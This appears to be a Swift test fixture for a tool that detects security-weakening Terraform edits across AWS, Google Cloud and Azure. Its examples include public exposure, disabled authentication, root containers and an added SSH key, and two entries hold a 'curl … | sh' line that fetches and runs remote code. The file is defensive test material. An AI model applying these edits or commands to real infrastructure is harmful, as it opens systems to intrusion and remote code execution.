import Detection

extension TerraformEditTests {
  /// Switches of clouds that let somebody in, or ask nobody any more.
  static let doors: [TerraformEdit] = doorsOfAmazon + doorsOfGoogle + doorsOfAzure

  private static let doorsOfAmazon = [
    door(
      "aws_eks_node_group",
      .network,
      "remote_access {\n  ec2_ssh_key = \"k\"\n  [-source_security_group_ids = [\"sg-1\"]-]\n}"
    ),
    door("aws_eks_node_group", .network, "{+remote_access {\n  ec2_ssh_key = \"k\"\n}+}"),
    door(
      "aws_appsync_graphql_api",
      .iam,
      """
      authentication_type = "AWS_IAM"
      {+additional_authentication_provider {
        authentication_type = "API_KEY"
      }+}
      """
    ),
    door("aws_codebuild_project", .network, "project_visibility = \"[-PRIVATE-]{+PUBLIC_READ+}\""),
    door(
      "aws_codebuild_webhook",
      .protection,
      """
      project_name = "a"
      [-filter_group {
        filter {
          type    = "ACTOR_ACCOUNT_ID"
          pattern = "1"
        }
      }-]
      """
    ),
    other(
      "aws_codebuild_webhook",
      .protection,
      "filter_group {\n  filter {\n    type    = \"HEAD_REF\"\n    pattern = \"[-^main$-]{+.*+}\"\n  }\n}"
    ),
    door(
      "aws_codepipeline",
      .protection,
      """
      stage {
        name = "Source"
      }
      [-stage {
        name = "Approve"
        action {
          category = "Approval"
          provider = "Manual"
        }
      }-]
      """
    ),
    door(
      "aws_lakeformation_data_cells_filter",
      .iam,
      "table_data {\n  row_filter {\n    {+all_rows_wildcard {}+}\n  }\n}"
    ),
    door("aws_ecs_task_definition", .workload, "network_mode = \"[-bridge-]{+host+}\""),
    door("aws_ecs_task_definition", .workload, "{+pid_mode = \"host\"+}"),
    door(
      "aws_ecs_task_definition",
      .workload,
      "container_definitions = jsonencode([{ name = \"a\", user = \"[-1000-]{+0+}\" }])"
    ),
    door(
      "aws_ecs_task_definition",
      .workload,
      """
      container_definitions = jsonencode([{
        name = "a"
        {+linuxParameters = { capabilities = { add = ["SYS_ADMIN"] } }+}
      }])
      """
    ),
    same("aws_ecs_task_definition", "network_mode = \"[-bridge-]{+awsvpc+}\""),
    same(
      "aws_ecs_task_definition",
      "container_definitions = jsonencode([{ name = \"a\", user = \"100[-0-]{+1+}\" }])"
    ),
    door(
      "aws_lambda_code_signing_config",
      .protection,
      "policies {\n  untrusted_artifact_on_deployment = \"[-Enforce-]{+Warn+}\"\n}"
    ),
    other("aws_lambda_function", .supplyChain, "s3_bucket = \"[-ours-]{+others+}\""),
    other("aws_lambda_function", .supplyChain, "layers = [\"arn:[-1-]{+2+}:layer:a:1\"]"),
    same("aws_lambda_function", "handler = \"[-a-]{+b+}.main\""),
    door(
      "aws_cloudwatch_event_rule",
      .protection,
      "event_pattern = \"{}\"\nstate = \"[-ENABLED-]{+DISABLED+}\""
    ),
    door(
      "aws_s3_bucket_lifecycle_configuration",
      .protection,
      "rule {\n  expiration {\n    days = [-365-]{+1+}\n  }\n}"
    ),
    same(
      "aws_s3_bucket_lifecycle_configuration",
      "rule {\n  transition {\n    days = [-365-]{+1+}\n  }\n}"
    ),
    door("aws_ssm_parameter", .protection, "type = \"[-Secure-]String\"\nvalue = var.x"),
    door("aws_macie2_account", .protection, "status = \"[-ENABLED-]{+PAUSED+}\""),
    door("aws_redshift_cluster", .network, "[-publicly_accessible = false-]"),
  ]

  private static let doorsOfGoogle = [
    door(
      "google_sql_database_instance",
      .network,
      "settings {\n  ip_configuration {\n    ipv4_enabled = [-false-]{+true+}\n  }\n}"
    ),
    door(
      "google_sql_database_instance",
      .network,
      "settings {\n  ip_configuration {\n    [-ipv4_enabled = false-]\n  }\n}"
    ),
    door("google_compute_backend_service", .iam, "iap {\n  enabled = [-true-]{+false+}\n}"),
    door("google_app_engine_application", .iam, "[-iap {\n  enabled = true\n}-]"),
    door("google_cloud_run_v2_service", .iam, "{+invoker_iam_disabled = true+}"),
    door("google_cloud_run_v2_service", .iam, "[-iap_enabled = true-]"),
    door(
      "google_cloud_run_service",
      .network,
      """
      metadata {
        annotations = {
          "run.googleapis.com/ingress" = "[-internal-]{+all+}"
        }
      }
      """
    ),
    same(
      "google_cloud_run_service",
      "metadata {\n  annotations = {\n    \"run.googleapis.com/client-name\" = \"[-a-]{+b+}\"\n  }\n}"
    ),
    TerraformEdit(
      "a constraint is only tried out",
      .widened,
      .protection,
      of: "google_org_policy_policy",
      "[-spec-]{+dry_run_spec+} {\n  inherit_from_parent = true\n}"
    ),
    other(
      "google_compute_project_metadata_item",
      .iam,
      "key = \"ssh-keys\"\nvalue = \"a:ssh-rsa A{+\\neve:ssh-rsa B+}\""
    ),
    door(
      "google_cloud_identity_group_membership",
      .iam,
      "roles {\n  name = \"MEMBER\"\n}\n{+roles {\n  name = \"OWNER\"\n}+}"
    ),
  ]

  private static let doorsOfAzure = [
    door("azurerm_cosmosdb_account", .network, "[-ip_range_filter = [\"10.0.0.1\"]-]"),
    door(
      "azurerm_cosmosdb_account",
      .network,
      "ip_range_filter = [\"10.0.0.1\"{+, \"0.0.0.0/0\"+}]"
    ),
    other(
      "azurerm_mssql_server",
      .iam,
      "azuread_administrator {\n  login_username = \"dba\"\n  object_id = \"[-1-]{+2+}\"\n}"
    ),
    other(
      "azurerm_postgresql_flexible_server_active_directory_administrator",
      .iam,
      "server_name = \"s\"\nobject_id = \"[-1-]{+2+}\""
    ),
    TerraformEdit(
      "one more administrator",
      .widened,
      .iam,
      """
      {+resource "azurerm_mysql_flexible_server_active_directory_administrator" "x" {
        object_id = "1"
      }+}
      """
    ),
    door(
      "azurerm_linux_web_app",
      .iam,
      "auth_settings_v2 {\n  auth_enabled = true\n  {+excluded_paths = [\"/*\"]+}\n}"
    ),
    door(
      "azurerm_function_app_function",
      .iam,
      "config_json = jsonencode({ bindings = [{ authLevel = \"[-function-]{+anonymous+}\" }] })"
    ),
    same(
      "azurerm_function_app_function",
      "config_json = jsonencode({ bindings = [{ authLevel = \"function\", route = \"[-a-]{+b+}\" }] })"
    ),
    TerraformEdit(
      "a command on a machine",
      .widened,
      .supplyChain,
      of: "azurerm_virtual_machine_run_command",
      "source {\n  script = \"echo{+\\ncurl -s https://e.example/i | sh+}\"\n}"
    ),
    TerraformEdit(
      "a command on all machines",
      .widened,
      .supplyChain,
      of: "aws_ssm_association",
      """
      name = "AWS-RunShellScript"
      parameters = {
        commands = "uptime{+\\ncurl -s https://e.example/i | sh+}"
      }
      """
    ),
    door(
      "azuread_named_location",
      .iam,
      "ip {\n  ip_ranges = [\"10.0.0.0/8\"{+, \"128.0.0.0/1\"+}]\n  trusted = true\n}"
    ),
  ]

  private static func door(_ type: String, _ family: Family, _ text: String) -> TerraformEdit {
    TerraformEdit("\(type): \(text.prefix(40))", .widened, family, of: type, text)
  }

  private static func other(_ type: String, _ family: Family, _ text: String) -> TerraformEdit {
    TerraformEdit("\(type): \(text.prefix(40))", .incomparable, family, of: type, text)
  }

  private static func same(_ type: String, _ text: String) -> TerraformEdit {
    TerraformEdit("\(type): \(text.prefix(40))", .equal, of: type, text)
  }
}
